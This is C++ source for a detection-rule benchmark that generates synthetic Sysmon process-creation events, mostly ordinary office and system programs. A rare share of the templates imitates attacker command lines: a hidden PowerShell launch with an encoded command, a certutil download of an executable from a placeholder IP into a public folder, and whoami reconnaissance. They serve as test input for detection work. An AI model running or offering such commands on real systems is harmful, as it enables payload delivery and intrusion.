// SPDX-License-Identifier: Apache-2.0
// Process creations alone, the hardest events there are for Sigma: more than a thousand rules look at them,
// mostly at command lines, and no two of these are the same. Invented from a fixed seed, as Sysmon reports
// them through the collector of the OTRF corpus (with the rendered message) and as plain fields. Each pass
// begins with nothing known: what a scan learns about values lives as long as a batch.
#include "bench/scan.h"

#include <random>
#include <set>

#include <fmt/format.h>

#include "base/json.h"
#include "base/text.h"
#include "base/time.h"
#include "os/env.h"

namespace phendau::bench {
namespace {

constexpr std::size_t kEvents = 40'000;
constexpr std::uint64_t kSeed = 20'261'126;
constexpr double kShareTarget = 0.25;

struct Program {
  const char* image;
  const char* description;
  const char* arguments;  // with the marks of fill()
  const char* parent;
};

constexpr const char* kExplorer = R"(C:\Windows\explorer.exe)";
constexpr const char* kServices = R"(C:\Windows\System32\services.exe)";
constexpr const char* kSvchost = R"(C:\Windows\System32\svchost.exe)";
constexpr const char* kCmd = R"(C:\Windows\System32\cmd.exe)";
constexpr const char* kChrome = R"(C:\Program Files\Google\Chrome\Application\chrome.exe)";
constexpr const char* kEdge = R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)";
constexpr const char* kPowershell = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";

// The shares are about those of an office: browsers, services and update programs first, administration
// rarely, and a few lines as attackers write them.
constexpr Program kPrograms[] = {
    {kChrome, "Google Chrome",
     "--type=renderer --lang=vi --device-scale-factor=1.25 --num-raster-threads=4 --renderer-client-id=#n "
     "--launch-time-ticks=#n#n --field-trial-handle=#n,i,#h,#h,262144 --variations-seed-version=20261120-#n "
     "--mojo-platform-channel-handle=#n /prefetch:1",
     kChrome},
    {kEdge, "Microsoft Edge",
     "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=vi --service-sandbox-type=none "
     "--field-trial-handle=#n,i,#h,#h,262144 --mojo-platform-channel-handle=#n /prefetch:8",
     kEdge},
    {kChrome, "Google Chrome", "--single-argument https://#w.hagiang.gov.vn/van-ban/#n?id=#h", kExplorer},
    {kSvchost, "Host Process for Windows Services", "-k netsvcs -p -s #wSvc#n", kServices},
    {kSvchost, "Host Process for Windows Services", "-k LocalServiceNetworkRestricted -p -s #w_#h",
     kServices},
    {R"(C:\Windows\System32\backgroundTaskHost.exe)", "Background Task Host", "-ServerName:App.AppX#h#h.mca",
     kSvchost},
    {R"(C:\Windows\System32\dllhost.exe)", "COM Surrogate", "/Processid:{#g}", kSvchost},
    {R"(C:\Windows\System32\RuntimeBroker.exe)", "Runtime Broker", "-Embedding #h", kSvchost},
    {R"(C:\Windows\System32\taskhostw.exe)", "Host Process for Windows Tasks", "Install $(Arg#n)", kSvchost},
    {R"(C:\Windows\System32\conhost.exe)", "Console Window Host", "0x#h -ForceV1", kCmd},
    {R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)", "Microsoft Word",
     R"(/n "C:\Users\#u\Documents\Cong van #n-#w.docx" /o "#h")", kExplorer},
    {R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)", "Microsoft Excel",
     R"("\\may-chu-#n\chung\#w\Bao cao quy #n.xlsx")", kExplorer},
    {R"(C:\Program Files\Adobe\Acrobat DC\Acrobat\AcroCEF\AcroCEF.exe)", "Adobe AcroCEF",
     "--type=gpu-process --log-severity=disable --user-agent-product=ReaderServices/#n "
     "--field-trial-handle=#n,#h,#h",
     R"(C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe)"},
    {R"(C:\Users\Public\Zalo\Zalo.exe)", "Zalo",
     R"(--type=renderer --user-data-dir="C:\Users\#u\AppData\Roaming\ZaloData" --app-path="C:\Users\#u\AppData\Local\)"
     R"(Programs\Zalo\Zalo-#n\resources\app.asar" --renderer-client-id=#n --launch-time-ticks=#n#n /prefetch:1)",
     R"(C:\Users\Public\Zalo\Zalo.exe)"},
    {R"(C:\Program Files (x86)\Google\GoogleUpdater\130.0\updater.exe)", "Google Updater",
     "--crash-handler --system --database=C:\\Program Files (x86)\\Google\\GoogleUpdater\\#n\\Crashpad "
     "--annotation=ver=130.#n --initial-client-data=0x#h,0x#h,0x#h",
     kSvchost},
    {R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MpCmdRun.exe)",
     "Microsoft Malware Protection",
     "SignatureUpdate -ScheduleJob -RestrictPrivileges -HttpDownload -Job{#g}", kSvchost},
    {R"(C:\Windows\System32\SearchProtocolHost.exe)", "Microsoft Windows Search Protocol Host",
     R"("Global\UsGthrFltPipeMssGthrPipe#n_" "Global\UsGthrCtrlFltPipeMssGthrPipe#n" 1 -2147483646 "#h")",
     R"(C:\Windows\System32\SearchIndexer.exe)"},
    {R"(C:\Windows\System32\msiexec.exe)", "Windows installer",
     R"(/i "C:\ProgramData\Cai dat\#w-#n.msi" /norestart)", kExplorer},
    {R"(C:\Windows\System32\rundll32.exe)", "Windows host process (Rundll32)",
     R"(C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {#g} -Embedding)", kSvchost},
    {R"(C:\Windows\System32\reg.exe)", "Registry Console Tool",
     R"(query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{#g}" /v DisplayName)", kCmd},
    {R"(C:\Windows\System32\schtasks.exe)", "Task Scheduler Configuration Tool",
     R"(/query /tn "\Don vi\#w #n" /fo LIST)", kCmd},
    {kCmd, "Windows Command Processor", R"(/c ""C:\Scripts\sao-luu-#w-#n.bat" #h >> C:\Logs\#n.txt 2>&1")",
     kSvchost},
    {kPowershell, "Windows PowerShell",
     R"(-NoProfile -File "C:\ProgramData\Kiem tra\#w-#n.ps1" -ComputerName may-#n -Ticket #g)", kSvchost},
    {R"(C:\Program Files\Git\cmd\git.exe)", "Git for Windows", "fetch --all --prune --tags origin #h#h",
     kCmd},
    {R"(C:\Windows\System32\net.exe)", "Net Command",
     R"(use Z: \\may-chu-#n\#w /user:TINH\#u /persistent:no)", kCmd},
    {kPowershell, "Windows PowerShell", "-nop -w hidden -EncodedCommand #b#b#b", kCmd},
    {R"(C:\Windows\System32\certutil.exe)", "CertUtil.exe",
     R"(-urlcache -split -f http://192.0.2.#n/#w.exe C:\Users\Public\#h.exe)", kCmd},
    {R"(C:\Windows\System32\whoami.exe)", "whoami - displays logged on user information",
     "/all /fo csv /nh #h", kCmd},
};
constexpr std::size_t kRareFrom = 24;  // in kPrograms: one event in fifty is one of these

constexpr const char* kWords[] = {"van-thu", "ke-toan", "nhan-su",  "mot-cua", "thong-ke",
                                  "dat-dai", "y-te",    "giao-duc", "noi-vu",  "tai-chinh",
                                  "tu-phap", "cong-an", "xay-dung"};

class Invention {
 public:
  Json event() {
    const bool rare = below(50) == 0;
    const std::size_t index = rare ? kRareFrom + below(std::size(kPrograms) - kRareFrom) : below(kRareFrom);
    const Program& program = kPrograms[index];
    user_ = fmt::format("cb{:03}", below(300));
    std::string line;
    do line = fmt::format("\"{}\" {}", program.image, fill(program.arguments));
    while (!lines_.insert(line).second);
    const UtcTime time{days(20'700).ns + milliseconds(static_cast<std::int64_t>(lines_.size()) * 431).ns};
    const std::string utc = replace_all(format_rfc3339(time).substr(0, 23), "T", " ");
    const std::string file =
        std::string(std::string_view(program.image).substr(std::string_view(program.image).rfind('\\') + 1));
    const std::string hashes = fmt::format(
        "SHA1={0:016X}{1:016X}{0:08X},MD5={1:016X}{0:016X},SHA256={0:016X}{1:016X}"
        "{1:016X}{0:016X},IMPHASH={1:016X}{1:016X}",
        (index + 1) * 0x9E37'79B9'7F4Au, (index + 1) * 0xC2B2'AE3D'27D4u);
    return Json::object({{"UtcTime", utc},
                         {"ProcessGuid", "{" + guid() + "}"},
                         {"ProcessId", std::to_string(1'000 + below(60'000))},
                         {"Image", program.image},
                         {"FileVersion", fmt::format("10.0.{}.1", 19'041 + index)},
                         {"Description", program.description},
                         {"Product", program.description},
                         {"Company", "Microsoft Corporation"},
                         {"OriginalFileName", file},
                         {"CommandLine", line},
                         {"CurrentDirectory", fmt::format("C:\\Users\\{}\\", user_)},
                         {"User", "TINH\\" + user_},
                         {"LogonGuid", "{" + guid() + "}"},
                         {"LogonId", "0x" + hex(6)},
                         {"TerminalSessionId", "1"},
                         {"IntegrityLevel", rare ? "High" : "Medium"},
                         {"Hashes", hashes},
                         {"ParentProcessGuid", "{" + guid() + "}"},
                         {"ParentProcessId", std::to_string(1'000 + below(60'000))},
                         {"ParentImage", program.parent},
                         {"ParentCommandLine", fmt::format("\"{}\" {}", program.parent, hex(8))}});
  }

  std::size_t below(std::size_t end) { return static_cast<std::size_t>(random_() % end); }

 private:
  /// #n a number, #h eight hexadecimal digits, #g a GUID, #b Base64 of UTF-16, #w a word, #u the user.
  std::string fill(std::string_view text) {
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
      if (text[i] != '#') {
        out += text[i];
        continue;
      }
      switch (text[++i]) {
        case 'n':
          out += std::to_string(below(90'000) + 10);
          break;
        case 'h':
          out += hex(8);
          break;
        case 'g':
          out += guid();
          break;
        case 'b':
          for (int k = 0; k < 12; ++k)
            out += {"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"[below(52)], 'A'};
          break;
        case 'w':
          out += kWords[below(std::size(kWords))];
          break;
        default:
          out += user_;
          break;
      }
    }
    return out;
  }
  std::string hex(int digits) { return fmt::format("{:0{}x}", random_() >> (64 - 4 * digits), digits); }
  std::string guid() { return fmt::format("{}-{}-{}-{}-{}", hex(8), hex(4), hex(4), hex(4), hex(12)); }

  std::mt19937_64 random_{kSeed};
  std::set<std::string> lines_;
  std::string user_;
};

/// What the collector of the OTRF corpus puts around: headers, and all fields again as a text.
Json as_collected(const Json& fields, std::size_t number) {
  Json out = Json::object({{"@timestamp", replace_all(fields["UtcTime"].as_string(), " ", "T") + "Z"},
                           {"@version", "1"},
                           {"AccountName", "SYSTEM"},
                           {"AccountType", "User"},
                           {"Category", "Process Create (rule: ProcessCreate)"},
                           {"Channel", "Microsoft-Windows-Sysmon/Operational"},
                           {"Domain", "NT AUTHORITY"},
                           {"EventID", 1},
                           {"EventReceivedTime", fields["UtcTime"].as_string().substr(0, 19)},
                           {"EventTime", fields["UtcTime"].as_string().substr(0, 19)},
                           {"EventType", "INFO"},
                           {"ExecutionProcessID", 3'184},
                           {"Hostname", fmt::format("MAY-{:03}.tinh.local", number % 200)},
                           {"Keywords", std::int64_t{-9'223'372'036'854'775'807 - 1}},
                           {"Opcode", "Info"},
                           {"OpcodeValue", 0},
                           {"ProviderGuid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"},
                           {"RecordNumber", static_cast<std::int64_t>(number + 1)},
                           {"RuleName", "-"},
                           {"Severity", "INFO"},
                           {"SeverityValue", 2},
                           {"SourceModuleName", "eventlog"},
                           {"SourceModuleType", "im_msvistalog"},
                           {"SourceName", "Microsoft-Windows-Sysmon"},
                           {"Task", 1},
                           {"ThreadID", static_cast<std::int64_t>(number % 5'000)},
                           {"UserID", "S-1-5-18"},
                           {"Version", 5},
                           {"host", "wec.tinh.local"},
                           {"port", 58'121},
                           {"tags", Json::array({"bench"})}});
  std::string message = "Process Create:\r\nRuleName: -";
  for (const auto& [name, value] : fields.members()) {
    out.set(name, value);
    message += fmt::format("\r\n{}: {}", name, value.as_string());
  }
  out.set("Message", message);
  return out;
}

/// As a program writes them that passes on what Sysmon says and no more.
Json as_fields(const Json& fields, std::size_t number) {
  Json out = fields;
  out.set("Channel", "Microsoft-Windows-Sysmon/Operational");
  out.set("EventID", 1);
  out.set("Computer", fmt::format("MAY-{:03}.tinh.local", number % 200));
  return out;
}

void against_floor(const std::string& what, const std::string& text, const RuleSetPtr& all,
                   const std::string& path) {
  if (const auto done = write_file_atomic(posix_env(), path, text); !done) give_up(done.error().message);
  for (const std::size_t threads : thread_counts()) {
    const auto floor = std::make_shared<JsonFloor>(path, threads);
    Pair pair =
        scan_pair(fmt::format("detect, processes, {}, {}", what, threads_name(threads)), all, path, threads);
    pair.baseline = "simdjson, " + threads_name(threads);
    pair.base = [floor] { keep(floor->read()); };
    pair.share_target = kShareTarget;
    run(pair);
  }
}

}  // namespace

void processes_report(const SigmaRules& rules, const std::string& folder) {
  if (!wanted("detect, processes")) return;
  Invention invention;
  std::string collected, fields;
  for (std::size_t i = 0; i < kEvents; ++i) {
    const Json event = invention.event();
    collected += as_collected(event, i).dump() + "\n";
    fields += as_fields(event, i).dump() + "\n";
  }
  const auto all = rules.compile(rules.all());
  against_floor("with messages", collected, all, folder + "/processes.ndjson");
  against_floor("fields alone", fields, all, folder + "/processes-fields.ndjson");
}

}  // namespace phendau::bench
